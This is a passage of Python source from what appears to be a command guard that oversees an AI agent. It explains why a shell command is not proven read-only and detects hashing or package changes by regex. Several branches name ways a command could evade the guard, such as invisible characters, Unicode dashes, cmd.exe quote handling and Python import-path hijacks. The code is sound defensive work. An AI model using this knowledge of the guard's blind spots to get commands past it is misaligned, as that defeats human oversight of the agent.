    while at >= 0:
        end = at + len(op)
        while end < len(segment) and segment[end] in " \t":
            end += 1
        while end < len(segment) and segment[end] not in " \t\n;|&<>":
            end += 1
        found = _quote(segment[at:end], command)
        if found:
            return found
        at = segment.find(op, at + 1)
    return _quote(op, command)


def _why_text(where: Any, v: _V, command: str, prefer: Sequence[str] = ()) -> Tuple[str, str]:
    """(what the piece does, a read-only way to do the same or ""); prefer: the
    targets to name first (those outside files=)."""
    words = _words_of(where)
    prog = words[0] if words else ""
    name = (_program_name(_lit(prog)) or "") if prog else ""
    qprog = _quote(prog, command)
    why = v.why or ()
    kind = why[0] if why else ""
    reason = v.reason or ("shell_command_unproven" if v.mut == "unknown" else "")
    target = next((t for t in v.targets if t in prefer and _quote(t, command)), "") or \
        next((t for t in v.targets if _quote(t, command)), "")
    qtarget = _quote(target, command)
    if kind == "redir":
        op, dest = why[1].replace("\x01", ""), why[2] or ""
        shown = _redirect_shown(op, dest, where, command)
        verb = "appends to" if op.endswith(">>") else "writes"
        what = "%s %s %s" % (shown or "a redirection", verb,
                             "a file" if shown.endswith(dest + "`") or not _quote(dest, command)
                             else _quote(dest, command))
        instead = ""
        if isinstance(where, _Cmd) and where.words and name not in _CONTENT_WRITERS:
            bare = _Cmd(where.src)
            bare.words, bare.assigns = where.words, where.assigns
            if _explain_read(bare):
                instead = "leave out %s and read the output directly" % (shown or "the redirection")
                if name == "grep":
                    instead = "`rg` prints the matches without a file; " + instead
        return what, instead
    if kind == "writer":
        writer = _program_name(_lit(why[1])) or why[1]
        verb, obj = _WRITER_WHY.get(writer, ("writes", "files"))
        subject = _quote(why[1], command) or _quote(prog, command) or "the program"
        return "%s %s %s" % (subject, verb, qtarget or obj), ""
    if kind == "inplace":
        flag = _quote(prog + " " + why[1], command) or _quote(why[1], command)
        if name in ("sed", "gsed"):
            return ("%s edits %s in place" % (flag or "`-i`", qtarget or "files"),
                    "`%s` without `%s` prints the result and edits nothing; `sed -n '1,20p' "
                    "FILE` shows lines" % (name, why[1]))
        return "%s edits %s in place" % (flag or "`-i`", qtarget or "files"), ""
    if kind == "sed_script":
        script = _quote(why[1], command) or "script"
        if reason == "shell_execution_option":
            return "the %s script %s runs a command" % (qprog or "sed", script), ""
        return "the %s script %s writes %s" % (qprog or "sed", script, qtarget or "a file"), ""
    if kind == "git":
        sub = why[1]
        shown = _quote("git " + sub, command) or _quote(sub, command) or qprog
        if v.mut == "write":
            return "%s changes the repository" % shown, _GIT_INSTEAD.get(sub, "")
        return "%s %s" % (shown, _REASON_WHY["git_arguments_unproven"]), ""
    if kind == "gitglobal":
        opt = why[1]
        shown = _quote(prog + " " + opt, command) or _quote(opt, command)
        key = opt.split("=", 1)[0]
        return ("%s %s" % (shown or qprog, _GIT_GLOBAL_WHY.get(
            key, "is not a git option proven read-only")), _without(where, opt))
    if kind == "option":
        opt = why[1]
        shown = _quote(prog + " " + opt, command) or _quote(opt, command)
        if v.mut == "write" and reason != "git_output_file":
            verb = "removes files under" if opt == "-delete" else "writes"
            return "%s %s %s" % (shown or qprog, verb, qtarget or "files"), _without(where, opt)
        if reason == "git_output_file":
            value = opt.split("=", 1)[1] if "=" in opt else target
            sub = _subcommand(words)
            return ("%s makes git write %s" % (shown or "`--output`",
                                              _quote(value, command) or "a file"),
                    "`git %s` without `%s` prints to the terminal" % (sub or "diff",
                                                                     opt.split("=", 1)[0]))
        if reason == "shell_execution_option":
            return "%s runs another program" % (shown or qprog), _without(where, opt)
        if reason == "option_value_missing":
            return "%s lacks its value" % (shown or qprog), ""
        if name == "git":
            sub = _subcommand(words)
            return ("%s is not proven read-only for %s" % (
                _quote(opt, command) or "an option", _quote("git " + sub, command) or qprog),
                _without(where, opt))
        return ("%s is not proven read-only" % (shown or "an option of " + (qprog or "it")),
                _without(where, opt))
    if kind == "spec":
        spelled, value, effect = why[1], why[2], why[3]
        shown = _quote(prog + " " + spelled, command) or _quote(spelled, command)
        if effect == "write":
            return ("%s writes %s" % (shown or qprog, _quote(value, command) or "a file"),
                    _without(where, spelled))
        if effect == "state":
            return ("%s changes the state of the system" % (shown or qprog),
                    _without(where, spelled))
        return "%s runs another program" % (shown or qprog), _without(where, spelled)
    if kind in ("env", "assign"):
        shown = _assignment_shown(why[1], where, command)
        if kind == "assign":
            return "%s sets a variable that later commands see" % (shown or "an assignment"), ""
        bare = None
        if isinstance(where, _Cmd):
            bare = _Cmd(where.src)
            bare.words, bare.redirs = where.words, where.redirs
            bare.assigns = [(n, w) for n, w in where.assigns if n != why[1]]
        runs = _quote(prog, command) if prog.upper() != prog or "=" not in prog else ""
        return ("%s %s" % (shown or "a variable", _env_why(why[1], runs)),
                "the same command without %s only reads" % shown
                if shown and bare is not None and bare.words and _explain_read(bare) else "")
    if kind == "path":
        text = why[1]
        if "/" not in text and "\\" not in text:
            return "%s is not a known program name" % (_quote(text, command) or "the program"), ""
        return "%s runs a program from a path, not a known system program" % (
            _quote(text, command) or "the command"), ""
    if kind == "dynamic":
        first = _segment(where, command).split(" ", 1)[0] if where is not None else ""
        return "%s names the program only when the command runs" % (
            _quote(first, command) or "the command"), ""
    if kind == "dash":
        return "%s starts with a Unicode dash, not a plain hyphen" % (_quote(why[1], command)
                                                           or "an argument"), ""
    if kind == "opaque":
        piece = _quote(why[1], command)
        if not piece and where is not None:
            tokens = _segment(where, command).split()
            piece = next((_quote(t, command) for t in tokens[1:]
                          if any(ch in t for ch in "$*?[{`") and _quote(t, command)), "")
        return ("%s may turn into an option or several words when the command runs"
                % (piece or "an argument with an expansion, a glob or braces")), ""
    if kind == "awk":
        shown = _quote(why[1], command)
        return ("the %s program %s %s" % (qprog or "awk", shown, why[2]) if shown
                else "the %s program %s" % (qprog or "awk", why[2])), ""
    if kind == "script_file":
        return "%s runs a script from a file the guard does not read" % (
            _quote(prog + " " + why[1], command) or _quote(why[1], command) or qprog), ""
    if kind == "procsub":
        return "%s sends output to commands whose use of it is not proven" % (
            _quote(why[1], command) or "a process substitution"), ""
    if kind == "heredoc":
        return ("the here-document line %s holds an expansion the shell would run"
                % (_quote(why[1].strip(), command) or "")).replace("line  holds", "holds"), ""
    if kind == "cmdchar":
        return "%s is special to cmd.exe" % (_quote(why[1], command) or "a character"), ""
    if kind == "cmdquote":
        first = command.lstrip(" \t").split(" ", 1)[0]
        return ("%s starts the line with a quote, and cmd.exe then drops the first and "
                "last quote of the line" % (_quote(first, command) or "the command")), ""
    if kind == "pschar":
        return "%s is special to PowerShell" % (_quote(why[1], command) or "a character"), ""
    if kind == "heredoc_open":
        return "the here-document %s has no end line" % (_quote(why[1], command) or ""), ""
    if kind == "dyncode":
        return "%s runs text that is only known when the command runs" % (
            _quote(why[1], command) or "it"), ""
    if kind in ("zsh", "sh"):
        return "%s %s" % (_quote(why[1], command) or "the line", _ZSH_WHY[why[2]]), ""
    if kind == "python":
        return _python_why(why, prog, command)
    if kind == "project":
        # `sudo cargo -V`: name the program, not the wrapper in front of it
        shown = next((_quote(w, command) for w in words if _program_name(_lit(w)) == why[1]
                      and _quote(w, command)), "")
        pin = next(("`%s=%s %s …` keeps it on the %s at hand" % (var, value, prog, prog)
                    for var, (prog, value) in _PICKS_PINNED_BY.items() if prog == why[1]), "")
        return "%s %s" % (shown or qprog or "it", _PROJECT_PICKS[why[1]]), pin
    if kind == "pystdin":
        return "%s reads its code from standard input" % (qprog or "python"), ""
    shown, key = _program_phrase(words, command)
    if kind == "unlisted" or (key and not kind and reason in (
            "shell_command_unproven", "interpreter_code")):
        return "%s %s" % (shown or "the program",
                          _PROGRAM_WHY.get(key, "is not on the read-only list")), ""
    if not kind and v.mut == "write" and name == "gh":
        return "%s changes something on GitHub" % (shown or qprog), ""
    if not kind and v.mut == "write" and name in _PACKAGE_PROGRAMS:
        return "%s installs or changes packages" % (shown or qprog), ""
    if not kind and v.mut == "write" and name in _WRITER_WHY:
        verb, obj = _WRITER_WHY[name]
        return "%s %s %s" % (shown or qprog, verb, qtarget or obj), ""
    if not kind and v.mut == "write":
        return "%s %s" % (shown or "it", "writes " + qtarget if qtarget else "changes files"), ""
    phrase = _REASON_WHY.get(reason, "is not proven read-only")
    if reason == "shell_command_unproven" and name in _PROGRAMS:
        phrase = "is not proven read-only with these arguments"
    return "%s %s" % (shown or qprog or "it", phrase), ""


def _assignment_shown(name: str, where: Any, command: str) -> str:
    """`NAME=value` as written, else `NAME=`."""
    if isinstance(where, _Cmd):
        segment = where.src[where.start:where.end]
        at = segment.find(name + "=")
        if at >= 0:
            end, quote = at + len(name) + 1, ""
            while end < len(segment) and (quote or segment[end] not in " \t\n;|&<>"):
                ch = segment[end]
                if quote and ch == quote:
                    quote = ""
                elif not quote and ch in "'\"":
                    quote = ch
                end += 1
            found = "" if quote else _quote(segment[at:end], command)
            if found:
                return found
    return _quote(name + "=", command) or _quote(name, command)


_PY_INSTEAD = ("`%s -I -c '…'` is proven when the code only computes, prints and reads "
               "files (json, math, sys and platform allowed)")


def _python_why(why: tuple, prog: str, command: str) -> Tuple[str, str]:
    """Why python code is unproven: its flags, or the part of the code that decided."""
    _, name, flag, proven, part = why
    shown = _quote(prog + " " + flag, command) or _quote(prog, command) or "python"
    if proven:
        return ("%s puts the working folder first on the import path, so a json.py or "
                "linecache.py there would run" % shown, _PY_INSTEAD % name)
    piece, _, reason = part.partition("\0")
    if not reason:
        return "the code given to %s does not parse as Python" % shown, ""
    quoted = _quote(piece, command)
    if not quoted:   # written with escapes in the command: quote what is verbatim
        head = piece.split("(", 1)[0]
        quoted = _quote(head + "(", command) if "(" in piece else _quote(head, command)
        quoted = "the code at %s" % quoted if quoted else "the code"
    return "%s %s" % (quoted, reason), _PY_INSTEAD % name


def _env_why(name: str, runs: str) -> str:
    """Why a variable on a command makes it unproven (see _env_ok)."""
    program = runs or "the program"
    for prefix, phrase in _ENV_WHY:
        if name == prefix or (prefix.endswith("*") and name.startswith(prefix[:-1])):
            return phrase % program if "%s" in phrase else phrase
    return "can change what %s runs or reads" % program


def _hash_part(where: Any, v: _V, command: str, intent: str) -> str:
    """The call or word of a piece that carries hash or dependency intent."""
    words = _words_of(where)
    prog = words[0] if words else ""
    name = (_program_name(_lit(prog)) or "") if prog else ""
    qprog = _quote(prog, command)
    if not words or not qprog:
        # A line no reader could split, or a program named through an expansion
        # (`$(which sha256sum) f`), still read for intent: name its line.
        for line in command.splitlines():
            if intent == "dep" or hash_intent_in_text(line, "x.sh") \
                    or hash_intent_in_text(line, None):
                shown = _quote(line.strip(), command)
                if shown:
                    return "%s %s" % (shown, "adds or runs hashing" if intent == "hash"
                                      else "adds or changes packages")
    if intent == "hash":
        texts = words[1:] + ([where.stdin] if isinstance(where, _Cmd) and where.stdin else [])
        for text in texts:
            if not text or not hash_intent_in_text(text, None):
                continue
            for line in text.splitlines():
                shown = _quote(line.strip(), command)
                if shown and hash_intent_in_text(line, None):
                    return "%s adds or runs hashing" % shown
        if name in _HASH_PROGRAMS or name in _HASH_WITH_OUTPUT:
            return "%s computes a hash" % (qprog or "the program")
        shown, _ = _program_phrase(words, command)
        return "%s computes or adds hashing" % (shown or qprog or "the command")
    for op, dest in (where.redirs if isinstance(where, _Cmd) else []):
        if dest is not None and manifest_kind(dest.text) is not None:
            return "%s writes into a manifest" % (
                _redirect_shown(op, dest.text, where, command) or "a redirection")
    shown, _ = _program_phrase(words, command)
    return "%s adds or changes packages" % (shown or qprog or "the command")


def _spot_note(command: str, reason: Optional[str]) -> str:
    """A piece no parse got to: say where, without quoting invisible characters."""
    if reason == "control_character":
        match = _an_rx("bad", _BAD_CHARS).search(command)
        if match:
            before = command[:match.start()].rstrip(" \t").rsplit("\n", 1)[-1][-40:]
            after = _quote(before.strip(), command)
            return "the command holds the control character U+%04X at position %d%s" % (
                ord(match.group()), match.start() + 1, ", after " + after if after else "")
    if reason == "analysis_limit":
        return "the command is too long (over %d KiB) or too deeply nested to read" % (
            _MAX_COMMAND // 1024)
    return ""


def shell_culprit(command: str, shell: str, code: str, paths: Sequence[str] = ()) -> str:
    """The `Culprit:` (and `Instead:`) lines for a deny or note about `command`.

    code is the decision's reason code; paths the outside or protected paths
    it named.  Runs the analysis again, so call it only for a deny or note.
    Returns "" when the command is not what decided (delegation, state, ...).
    """
    if not isinstance(command, str):
        return ""
    if code == "REPEATED_WITHOUT_CHANGE":
        whole = _quote(command.strip(), command)
        return "Culprit: %s, run again with no change in between." % (whole or "the command")
    pick = _CULPRIT_PICKS.get(code)
    if pick is None:
        return ""
    seen: List[Tuple[Any, _V]] = []
    try:
        final = _analyze_any(command, shell, seen)
    except Exception:   # noqa: BLE001 - explaining must never fail a hook
        return ""
    chosen = [(w, v) for w, v in seen if pick(v, paths)] or \
        [(w, v) for w, v in seen if v.mut != "read" or v.hash or v.dep]
    if chosen and final.why is not None and all(w is None and v.why is None
                                                for w, v in chosen):
        chosen = [(None, final)]
    where, v = None, final
    for cand_where, cand_v in chosen:
        if _quote(_segment(cand_where, command), command):
            where, v = cand_where, cand_v
            break
    else:
        if chosen:
            where, v = chosen[0]
    segment = _segment(where, command)
    instead = ""
    if code == "HASH_NOT_AUTHORIZED":
        what = _hash_part(where, v, command, "hash")
    elif code == "DEPENDENCY_NOT_AUTHORIZED":
        what = _hash_part(where, v, command, "dep")
    elif v.why is None and (where is None or (isinstance(where, _Spot) and not where.words)):
        what = _spot_note(command, v.reason)
        if not what:
            piece = _quote(segment, command) or "the command"
            what = "%s %s" % (piece, _REASON_WHY.get(v.reason or "", "could not be read"))
        segment = ""
    else:
        what, instead = _why_text(where, v, command, paths)
        if code not in ("MODE_FORBIDS_MUTATION", "MUTABILITY_UNPROVEN"):
            instead = ""   # a read-only way does not help a change kept out of files=
        if v.reason == "native_empty_arguments":
            what = "an empty argument that a Windows program may drop would leave: " + what
        if isinstance(where, _Spot) and not where.words:
            segment = ""   # a parse failure: the why says where, the token may not
    if _invisible(segment) or (isinstance(where, _Cmd) and _invisible(
            where.src[where.start:where.end].strip(" \t\n"))):
        match = next((ch for ch in command if _invisible(ch) and ch not in "\n"), "")
        if match:
            what += " (the command holds U+%04X, which shells read differently)" % ord(match)
    shown = _quote(segment, command)
    if shown and segment.strip() != command.strip() and not what.startswith(shown) \
            and shown not in what:
        line = "Culprit: %s: %s." % (shown, what)
    else:
        line = "Culprit: %s." % what
    if instead and not _invisible(instead):
        line += "\nInstead: %s." % instead
    return line


# ---- hash intent ------------------------------------------------------------
#
# Hashing is looked for by meaning, in whatever file or inline code it lands:
# every rule below applies to every code text, whatever its extension says,
# because a model can put Python's `hashlib.md5(x)` into `App.java` or run a
# digest through an alias (`import hashlib as h`, `{ createHash: ch }`,
# `s "crypto/sha256"`).  Only prose and data files (.md, .txt, .json, ...)
# are never scanned.  Four kinds of evidence count:
#   - a hashing API or module: `hashlib`, `createHash`, `MessageDigest`,
#     `System.Security.Cryptography.SHA256`, an import of `crypto/sha256`,
#     `Digest::`, `:crypto.hash`, `#include <openssl/sha.h>`, ...;
#   - a call or type named after a digest algorithm (`sha256(`, `h.md5(`,
#     `Sha256::new`, `SHA256.Create(`, `XXH64(`, `crc32(`, `Hmac<Sha256>`);
#   - a digest algorithm named as a literal argument of a hashing-shaped
#     call (`h.new("md5")`, `getInstance("SHA-256")`, `hash("sha256", $x)`);
#   - a hashing program run from code (`["sha256sum", f]`, `"openssl dgst"`)
#     or, in shell-like files, as a command.
# Python text is read with the standard `ast` module when it parses, so that
# comments and docstrings do not count and aliases, `__import__("hash" +
# "lib")` and `getattr(m, "sha256")` resolve; it falls back to the token
# rules when it does not parse.  Every pattern compiles only after a plain
# substring test finds one of _HASH_TRIGGERS, so code without any of them
# costs a few substring searches and no regex at all.

# Digest and password-hash algorithm names as they appear inside identifiers
# (lower case: rules run on the lower-cased text, which keeps the regex
# engine's fast literal search; an IGNORECASE or \b-led pattern loses it).
_HASH_ALGS = ("sha1", "sha2", "sha3", "sha5", "md5", "md4", "crc32", "crc64", "adler32", "fnv",
              "xxh", "murmur", "mmh3", "siphash", "highwayhash", "cityhash", "farmhash",
              "metrohash", "wyhash", "t1ha", "blake", "ripemd", "rmd160", "whirlpool",
              "keccak", "shake_128", "shake_256", "shake128", "shake256", "sm3", "hmac",
              "scrypt", "pbkdf2", "argon2", "hkdf")
_HASH_ALG_WORD = (r"sha\d|md[45]|crc(?:32c?|64)|adler32|fnv(?:1a?|32|64|128)|xxh(?:32|64|3|128)"
                  r"|xxhash|murmur|mmh3|siphash|highwayhash|cityhash|farmhash|metrohash|wyhash"
                  r"|t1ha|blake(?:2[bs]p?|3|2)|ripemd|rmd160|whirlpool|keccak|shake_?(?:128|256)"
                  r"|sm3|hmac|scrypt|pbkdf2|argon2|hkdf")
# ... and as a literal argument ("SHA-256", 'sha3_512', "HmacSHA256").
_HASH_ALG_LITERAL = (r"sha-?(?:1|224|256|384|512)(?:[-/_](?:224|256))?|sha3[-_](?:224|256|384|512)"
                     r"|md[45]|blake2[bs]\d*|blake3|ripemd-?160|rmd160|whirlpool|sm3"
                     r"|shake[-_]?(?:128|256)|hmac-?(?:sha-?\d+|md5)|hmacsha\d+|crc32c?"
                     r"|xxh(?:32|64|3|128)|keccak-?\d*")
# Programs and subcommands that compute a digest (shell words).
# Words of one command: blanks, or an argv list's `", "` (`["openssl", "dgst"]`).
_ARGV_GAP = r"(?:\s+|['\"]\s*,\s*['\"])"
_HASH_PROG_WORD = (r"g?(?:md5|sha1|sha224|sha256|sha384|sha512|sha3|b2|b3|ck|xxh|xxh32|xxh64"
                   r"|xxh128)sum|shasum|rhash|hashdeep|(?:md5|sha1|sha256|tiger|whirlpool)deep"
                   r"|jacksum|ssdeep|nix-hash|htpasswd|mkpasswd|get-filehash"
                   r"|openssl(?:\.exe)?" + _ARGV_GAP + r"(?:dgst|mac|kdf|passwd|"
                   + _HASH_ALG_LITERAL + ")|git" + _ARGV_GAP + r"hash-object|cmake" + _ARGV_GAP
                   + r"-e" + _ARGV_GAP + r"\w*sum|busybox" + _ARGV_GAP + r"\w*sum|gpg2?"
                   + _ARGV_GAP + r"--print-mds?|certutil(?:\.exe)?" + _ARGV_GAP + r"[-/]hashfile"
                   r"|nix" + _ARGV_GAP + r"hash")
_HASH_PROG_TRIGGERS = ("md5", "sha1", "sha2", "sha3", "sha5", "b2sum", "b3sum", "cksum", "xxh",
                       "shasum", "rhash", "hashdeep", "deep", "jacksum", "nix-hash", "nix hash",
                       "htpasswd", "mkpasswd", "filehash", "openssl", "hash-object", "hashfile",
                       "print-md")

# (trigger substrings, pattern): a rule runs only on a text holding one of
# its triggers.  Evidence in any code text, whatever its language.
_HASH_RULES: Tuple[Tuple[Tuple[str, ...], str], ...] = (
    (("hashlib",), r"hashlib\s*[.,)\]'\"]"),
    (("hashlib",), r"(?:import|from)\s+(?:[\w.]+\s*,\s*){0,8}_?hashlib\b"),
    (("createhash",), r"createhash\b"),
    (("digest",), r"messagedigest|digestutils|subtle\s*\.\s*digest\s*\(|evp_digest|digest\s*::\s*\w"
                  r"|ring\s*::\s*digest|data\.digest|(?:require|from|import)\s*\(?\s*['\"]"
                  r"(?:openssl/)?digest(?:/\w+)?['\"]|crypto\.digests|pointycastle/digests"
                  r"|commons\.codec\.digest"),
    (("crypto",), r"crypto\s*(?:\.\s*|\[\s*['\"])hash\b|:crypto\s*\.\s*(?:hash|mac|hmac)\w*\s*\("
                  r"|crypto\s*:\s*(?:hash|mac|hmac)\w*\s*\(|cryptojs\s*\.\s*\w+"
                  r"|crypto_(?:generic|pw|sh)hash|system\s*\.\s*security\s*\.\s*cryptography\s*\."
                  r"\s*(?:sha\w*|md5\w*|hmac\w*|incrementalhash|hashalgorithm\w*"
                  r"|rfc2898derivebytes|keyedhashalgorithm)|(?:crypto|cryptodome)\.hash\b"
                  r"|cryptography\.hazmat\.primitives(?:\.(?:hashes|hmac|kdf)|\s+import\s+"
                  r"[^\n]{0,80}\b(?:hashes|hmac))|\{[^{}\n]{0,200}\bhash\b[^{}\n]{0,200}\}\s*=\s*"
                  r"(?:await\s+)?(?:require|import)\s*\(\s*['\"](?:node:)?crypto['\"]"
                  r"|import\s*\{[^{}]{0,200}\bhash\b[^{}]{0,200}\}\s*from\s*['\"](?:node:)?crypto"
                  r"['\"]|['\"](?:crypto/(?:md5|sha1|sha256|sha512|sha3|hmac)|golang\.org/x/crypto/"
                  r"(?:sha3|blake2[bs]|bcrypt|argon2|pbkdf2|scrypt|md4|ripemd160|hkdf))['\"]"
                  r"|javax\.crypto\.mac|bouncycastle\.crypto\.(?:digests|macs)"
                  r"|springframework\.security\.crypto|(?:from|require\s*\(?|import\s*\(?)\s*['\"]"
                  r"(?:crypto-js[^'\"]*|package:crypto/[^'\"]*)['\"]"),
    # .NET, Java, PHP, SQL, Guava, Go names that only hashing code uses
    (("incrementalhash",), r"incrementalhash"),
    (("keyedhashalgorithm",), r"keyedhashalgorithm"),
    (("passwordhasher",), r"passwordhasher"),
    (("rfc2898derivebytes",), r"rfc2898derivebytes"),
    (("secretkeyfactory",), r"secretkeyfactory"),
    (("hashalgorithmname",), r"hashalgorithmname\s*\.\s*\w"),
    (("computehash",), r"computehash"),
    (("hashdata",), r"hashdata\w*\s*\("),
    (("password_hash",), r"password_hash\s*\("),
    (("hashbytes",), r"hashbytes\s*\("),
    (("goodfasthash",), r"goodfasthash"),
    (("farmhashfingerprint",), r"farmhashfingerprint"),
    (("generatefrompassword",), r"generatefrompassword"),
    (("hash_",), r"hash_(?:file|init|hmac\w*|pbkdf2|update\w*|final|copy)\s*\("),
    (("bcrypt",), r"bcrypt\s*(?:\.\s*\w+\s*\(|\(|::)|bcrypt(?:create|finish|hash)\w*\s*\("
                  r"|jbcrypt|['\"]bcrypt(?:js)?['\"]"),
    (("argon2",), r"argon2\s*\.\s*hash\b|['\"]argon2['\"]"),
    (("hash",), r"['\"](?:hash/(?:crc32|crc64|fnv|adler32|maphash)|@noble/hashes[^'\"]*|hash\.js"
                r"|hash-wasm|object-hash|create-hash|hasha)['\"]|com\.google\.common\.hash"
                r"|net\.openhft\.hashing|hashing\s*\.\s*(?:goodfasthash|siphash24)\b"),
    (("sum224", "sum256", "sum384", "sum512", "crc32"),
     r"\.\s*sum(?:224|256|384|512)\s*\(|new\s+crc32c?\s*\(|java\.util\.zip\.(?:crc32|adler32)"),
    (("zip.checksum",), r"java\.util\.zip\.checksum"),
    (("sha1", "sha2", "sha.js", "js-sha", "md5"), r"(?:from|require\s*\(?|import\s*\(?)\s*['\"](?:js-sha\d+|js-md5|md5|sha\.js|sha1|sha256|spark-md5|blueimp-md5"
                     r"|resty\.(?:sha\w*|md5)|crc-?32|fnv-plus|xxhash\w*|xxhashjs|murmurhash\w*"
                     r"|create-hmac)['\"]"),
    (("crc-32", "fnv-plus", "xxhash", "murmurhash", "cespare", "lukechampine", "zeebo",
      "spaolacci"),
     r"['\"](?:crc-32|fnv-plus|xxhash\w*|murmurhash\w*)['\"]|github\.com/cespare/xxhash"
     r"|lukechampine\.com/blake3|github\.com/zeebo/(?:blake3|xxh3)|github\.com/spaolacci/murmur3"),
    (("crcmod", "passlib", "mmh3", "xxhash", "blake3", "crc32c"),
     r"(?:import|from)\s+(?:[\w.]+\s*,\s*){0,8}(?:crcmod|passlib|mmh3|xxhash|blake3|crc32c)\b"),
    (("password4j",), r"com\.password4j"),
    (("twox_hash", "seahash", "siphasher", "crc32fast", "xxhash_rust"),
     r"(?:extern\s+crate|use)\s+(?:twox_hash|seahash|siphasher|crc32fast|xxhash_rust)\b"),
    (("using sha",), r"using\s+sha\b"),
    (("crypto.hash", "crypto.mac", "crypto.kdf", "data.digest"),
     r"import\s+(?:qualified\s+)?(?:crypto\.(?:hash|mac|kdf)|data\.digest)\b"),
    (("include",), r"#\s*include\s*[<\"][^>\"\n]{0,80}(?:sha\d*|md5|hmac|blake[23]?|xxhash"
                   r"|murmur\w*|crc32\w*|commondigest|commonhmac|ripemd|whirlpool|sm3|keccak"
                   r"|siphash|argon2)[^>\"\n]{0,40}[>\"]"),
    (("md5", "sha1"), r"insecure\s*\.\s*(?:md5|sha1)\b"),
    (("openssl::",), r"openssl\s*::\s*(?:hmac|digest|kdf)\b"),
    (("md5", "sha1", "sha2", "sha3", "sha5"), r"(?:file|string)\s*\(\s*(?:md5|sha1|sha224|sha256|sha384|sha512"
                         r"|sha3_\d+)\b"),  # CMake
    # (the broad rules last: a caller that only asks whether there is a hit
    # seldom compiles them)
    # a call, generic type or path named after an algorithm
    (_HASH_ALGS, r"(?:" + _HASH_ALG_WORD + r")[a-z0-9_]{0,40}\]?\s*(?:\(|<\s*\w|::\s*[\w<{]"
                 r"|\.\s*\w+\s*[(<])"),
    # importing a function or module named after one (`from zlib import crc32 as c`);
    # not `import hmac`, which also serves the constant-time compare_digest
    (_HASH_ALGS, r"import\s+[^\n;]{0,120}?(?<![\w.])(?!hmac\b)(?:" + _HASH_ALG_WORD + r")\w*\s*"
                 r"(?:as\s+\w+\s*)?(?:[,)}\n;]|$)"),
    # `use md5;`, `extern crate sha2;`
    (_HASH_ALGS, r"use\s+(?:sha1|sha2|sha3|md5|md4|blake2|blake3|hmac|argon2|bcrypt|pbkdf2"
                 r"|scrypt)\b|crate\s+(?:sha1|sha2|sha3|md5|md4|blake2|blake3|hmac)\b"),
    # a hashing program started from code: `["sha256sum", f]`, `"openssl dgst ..."`
    (_HASH_PROG_TRIGGERS, r"['\"`]\s*[!%]?\s*(?:sudo\s+)?(?:" + _HASH_PROG_WORD
                          + r")(?:\.exe)?\b|['\"\s]-hashfile\b"),
)
# A digest named as a literal argument counts when the call is hashing-shaped
# (`h.new("md5")`, `getInstance("SHA-256")`, `hash("sha256", $x)`): the
# literal is found first, then the text just before it is checked.
_HASH_LITERAL_RX = r"['\"](?:" + _HASH_ALG_LITERAL + r")['\"]"
_HASH_LITERAL_CALL = (r"(?:new|getinstance|create\w{0,20}|hash\w{0,20}|digest\w{0,10}"
                      r"|hmac\w{0,10}|derive\w{0,20}|getattr)\s*\(\s*(?:[^()'\"\n]{0,80},\s*)"
                      r"{0,2}\Z")
_HASH_LITERAL_TRIGGERS = ("sha-", "sha1", "sha2", "sha3", "sha5", "md5", "md4", "blake",
                          "ripemd", "rmd160", "whirlpool", "sm3", "shake", "hmac", "crc32",
                          "xxh", "keccak")
# Only in the language that owns them: PHP's `hash(` and its string
# callbacks; shell-like files' hashing commands.
_HASH_PHP_RULES: Tuple[Tuple[Tuple[str, ...], str], ...] = (
    (("hash",), r"(?<![\w$>:.])hash\s*\("),
    (("md5", "sha1", "crc32", "hash"), r"['\"](?:md5|sha1|crc32|hash|hash_hmac|md5_file"
                                       r"|sha1_file|hash_file)['\"]"),
)
# A command word: the character before it (checked after the match, which
# keeps the pattern's fast search) is one of _SH_WORD_LEAD or the start.
_HASH_SH_RULES: Tuple[Tuple[Tuple[str, ...], str], ...] = (
    (_HASH_PROG_TRIGGERS, r"(?:" + _HASH_PROG_WORD + r")(?:\.exe)?\b"),
    (("md5", "sha1", "sha2", "sha3", "sha5"),
     r"(?:md5|sha1|sha224|sha256|sha384|sha512)\s+-[sqr]"),
)
# Comparing two values in constant time hashes nothing (`hmac.compare_digest`,
# Go's `hmac.Equal`).
_HASH_NOT_HITS = frozenset(("hmac.compare_digest", "hmac.equal"))
_SH_WORD_LEAD = frozenset(" \t\n\r;&|(`!{=$'\"")
_RULE_RX: Dict[Any, Any] = {}

# File families: which rules beyond _HASH_RULES apply.
_EXT_FAMILY = {
    "py": "py", "pyw": "py", "pyi": "py", "ipynb": "nb", "php": "php", "phtml": "php",
    "sh": "sh", "bash": "sh", "zsh": "sh", "ksh": "sh", "fish": "sh", "ps1": "sh", "psm1": "sh",
    "psd1": "sh", "bat": "sh", "cmd": "sh", "mk": "sh", "mak": "sh", "yml": "sh", "yaml": "sh",
    "just": "sh", "nix": "sh", "cmake": "sh", "dockerfile": "sh", "containerfile": "sh",
}
# Prose and data: never scanned for hashing.
_NON_CODE_EXT = frozenset(("md", "markdown", "mdx", "rst", "txt", "text", "adoc", "asciidoc",
                           "org", "rtf", "tex", "json", "jsonl", "ndjson", "lock", "csv", "tsv",
                           "svg", "css", "scss", "sass", "less", "toml", "ini", "cfg", "conf",
                           "xml", "plist", "sum", "log", "png", "jpg", "jpeg", "gif", "webp",
                           "ico", "pdf", "snap", "sha256", "sha512", "sha1", "md5", "asc",
                           "sig", "pem", "crt", "key", "po", "pot", "properties", "env",
                           "gitignore", "gitattributes", "dockerignore", "editorconfig"))
_SHELL_NAMES = frozenset(("makefile", "gnumakefile", "dockerfile", "containerfile", "justfile",
                          "procfile", "vagrantfile", "cmakelists.txt", "brewfile", "taskfile",
                          "jenkinsfile", "earthfile", "tiltfile", "rakefile", "gemfile"))
_PROSE_NAMES = frozenset(("readme", "license", "licence", "copying", "notice", "authors",
                          "contributors", "changelog", "changes", "news", "history", "todo",
                          "maintainers", "codeowners", "owners", "version"))
# package.json / composer.json / deno.json run their "scripts" through a shell.
_SCRIPT_MANIFESTS = frozenset(("package.json", "composer.json", "deno.json", "deno.jsonc"))


def _hash_family(path: Optional[str]) -> Optional[str]:
    """How a file is read for hashing: None (prose/data), "code", "py", "php", "sh", "nb",
    "scripts" (a JSON manifest whose scripts run in a shell) or "?" (no extension)."""
    if not path:
        return "code"
    base = path.replace("\\", "/").rsplit("/", 1)[-1].lower()
    if base in _SHELL_NAMES or base.startswith(("dockerfile", "containerfile")):
        return "sh"
    if base in _SCRIPT_MANIFESTS:
        return "scripts"
    stem, dot, ext = base.rpartition(".")
    if not dot or not stem:
        # No extension (or a dotfile): a script or a prose file by name.
        return None if (base.lstrip(".") in _PROSE_NAMES or stem.lstrip(".") in _PROSE_NAMES
                        ) else "?"
    if ext in _NON_CODE_EXT:
        return None
